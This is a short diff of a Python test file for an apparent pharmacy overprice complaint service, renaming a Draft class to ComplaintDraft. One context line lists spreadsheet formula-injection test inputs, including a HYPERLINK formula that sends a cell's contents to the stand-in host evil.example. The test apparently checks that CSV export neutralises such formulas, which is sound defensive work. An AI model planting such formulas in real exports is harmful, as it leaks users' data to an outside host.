@@ -7,7 +7,7 @@ from decimal import Decimal
 
 import pytest
 
-from complaints.draft import Draft, PhotoRef, ProductFacts
+from complaints.draft import ComplaintDraft, PhotoRef, ProductFacts
 from complaints.export import ExportFilter, export_csv
 from complaints.images import clean_image
 from complaints.service import PhotoIn, create_complaint
@@ -20,7 +20,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Dorixona")', "+SUM(1+1)", "-
 
 
 async def _complaint(db, pharmacy: str, product: str = "Paracetamol-UZ") -> None:
-    draft = Draft(kind="overprice", price_paid=Decimal("45000"), pharmacy=pharmacy,
+    draft = ComplaintDraft(kind="overprice", price_paid=Decimal("45000"), pharmacy=pharmacy,
                   receipt=PhotoRef("file-id", "unique-id"),
                   product=ProductFacts(product, gtin="04780181590830", batch="-V31583",
                                        max_price=Decimal("27000"), currency="UZS"))
